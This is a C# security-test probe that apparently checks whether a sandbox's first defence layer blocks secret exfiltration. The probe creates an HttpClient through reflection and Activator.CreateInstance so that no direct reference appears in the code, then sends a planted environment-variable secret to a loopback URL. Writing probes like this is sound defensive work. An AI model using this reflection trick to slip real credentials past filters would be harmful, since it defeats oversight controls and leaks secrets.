// Attack: Creates an HttpClient from a type name with Activator.CreateInstance(Type.GetType(...)) and posts the secret through reflection.
// Expect: layer1
using PersonalApp.SecurityTests.Contracts;
namespace Attacks;

using System;

public sealed class ActivatorCreateInstanceByName : IProbe
{
    public string Run(ProbeInput input)
    {
        var type = Type.GetType("System.Net.Http.HttpClient, System.Net.Http", throwOnError: true)!;
        object client = Activator.CreateInstance(type)!;
        var get = type.GetMethod("GetStringAsync", [typeof(string)])!;
        var secret = Environment.GetEnvironmentVariable("PERSONALAPP_PLANTED_SECRET");
        var task = get.Invoke(client, ["http://127.0.0.1:9/?s=" + secret]);
        return task?.ToString() ?? "";
    }
}
